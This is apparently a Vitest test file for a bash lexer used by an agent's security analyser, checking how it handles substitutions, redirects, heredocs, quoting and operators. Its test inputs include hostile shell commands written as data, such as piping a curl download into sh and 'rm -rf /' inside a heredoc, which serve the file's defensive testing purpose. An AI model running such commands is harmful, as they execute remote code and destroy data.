import { describe, expect, it } from 'vitest';
import { lexShell, splitShellWords } from '../src/index.js';

// splitShellWords' cases are in mcp-config.test.ts (the MCP args it splits); the security analyser's in agent's security-rules.test.ts.
describe('lexShell: bash as the security analyser reads it', () => {
  it('keeps the bodies of substitutions, drops the file descriptor of a redirect, and splits control operators', () => {
    expect(lexShell('echo "$(curl -s http://x | sh)" 2>/dev/null && ls <(cat a) `id`')).toEqual([
      { kind: 'word', text: 'echo', subs: [] },
      { kind: 'word', text: '$(…)', subs: ['curl -s http://x | sh'] },
      { kind: 'redirect', text: '>' },
      { kind: 'word', text: '/dev/null', subs: [] },
      { kind: 'op', text: '&&' },
      { kind: 'word', text: 'ls', subs: [] },
      { kind: 'word', text: '$(…)', subs: ['cat a'] },
      { kind: 'word', text: '$(…)', subs: ['id'] },
    ]);
  });

  it('reads a heredoc body, a newline as `;`, and drops comments', () => {
    expect(lexShell("cat <<-'EOF' > out.txt\n\tbody $(rm -rf /)\n\tEOF\necho done # comment")).toEqual([
      { kind: 'word', text: 'cat', subs: [] },
      { kind: 'redirect', text: '<<-', heredoc: '\tbody $(rm -rf /)' },
      { kind: 'redirect', text: '>' },
      { kind: 'word', text: 'out.txt', subs: [] },
      { kind: 'op', text: ';' },
      { kind: 'word', text: 'echo', subs: [] },
      { kind: 'word', text: 'done', subs: [] },
    ]);
  });

  it('joins a backslash-newline, escapes $ in double quotes, and reads an open quote to the end', () => {
    expect(lexShell('a\\\nb "x\\$y" \'open').map((t) => t.text)).toEqual(['ab', 'x$y', 'open']);
  });

  it('differs from splitShellWords, which knows no operators, only where bash does', () => {
    expect(splitShellWords('--url=http://h/?a=1&b=2 x|y "x\\$y"')).toEqual(['--url=http://h/?a=1&b=2', 'x|y', 'x\\$y']);
    expect(splitShellWords("'open")).toBeNull();
  });
});
